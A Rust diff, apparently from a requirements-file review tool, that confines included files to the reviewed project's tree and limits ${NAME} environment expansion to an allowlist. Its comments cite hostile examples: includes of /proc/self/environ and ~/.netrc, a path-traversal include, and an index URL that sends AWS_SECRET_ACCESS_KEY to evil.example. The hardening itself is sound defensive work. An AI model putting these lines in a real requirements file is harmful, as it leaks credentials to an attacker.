@@ -33,18 +33,26 @@ pub(crate) trait Includes {
     }
 }
 
-/// Includes read from the filesystem, each bounded like a lockfile.
-pub(crate) struct FsIncludes;
+/// Includes read from the filesystem, each bounded like a lockfile and confined to the
+/// tree of the file that started the read (`-r /proc/self/environ`, `-r ~/.netrc`, a FIFO
+/// and `-r ../../outside.txt` are refused).
+pub(crate) struct FsIncludes {
+    pub(crate) root: PathBuf,
+}
 
 impl Includes for FsIncludes {
     fn load(&mut self, path: &Path, from: &Location) -> Result<String, LockError> {
-        let bytes = text::read_limited(path).map_err(|err| match err {
+        let bytes = text::read_limited(path, &self.root).map_err(|err| match err {
             LockError::Io { source, .. } => error_at(
                 from,
                 format!(
                     "cannot read included file `{}`: {source}: fix the `-r`/`-c` path (it is relative to this file)",
                     path.display()
                 ),
+            ),
+            LockError::Invalid { message, .. } => error_at(
+                from,
+                format!("cannot include `{}`: it {message}", path.display()),
             ),
             other => other,
         })?;
@@ -144,8 +152,31 @@ pub(super) fn parse(
     path: &Path,
     includes: &mut dyn Includes,
 ) -> Result<Lockfile, LockError> {
-    let var = |name: &str| std::env::var(name).ok();
+    let allowed = expandable_variables();
+    let var = |name: &str| {
+        allowed
+            .iter()
+            .any(|a| a == name)
+            .then(|| std::env::var(name).ok())
+            .flatten()
+    };
     parse_with_env(text, path, includes, &var)
+}
+
+/// The environment variables a requirements file may expand with `${NAME}`: only those
+/// listed in `PUBGATE_EXPAND_ENV` (comma- or space-separated). pip expands any variable,
+/// but the file under review is untrusted: `--index-url https://${AWS_SECRET_ACCESS_KEY}@evil.example/simple`
+/// would send the secret to its author's server, and a direct URL or path would print it
+/// in the report. Unlisted `${NAME}` stay as written, as pip leaves unset ones.
+pub const EXPAND_ENV_VARIABLE: &str = "PUBGATE_EXPAND_ENV";
+
+fn expandable_variables() -> Vec<String> {
+    std::env::var(EXPAND_ENV_VARIABLE)
+        .unwrap_or_default()
+        .split([',', ' ', '\t', '\n'])
+        .filter(|n| !n.is_empty())
+        .map(str::to_string)
+        .collect()
 }
 
 fn parse_with_env(
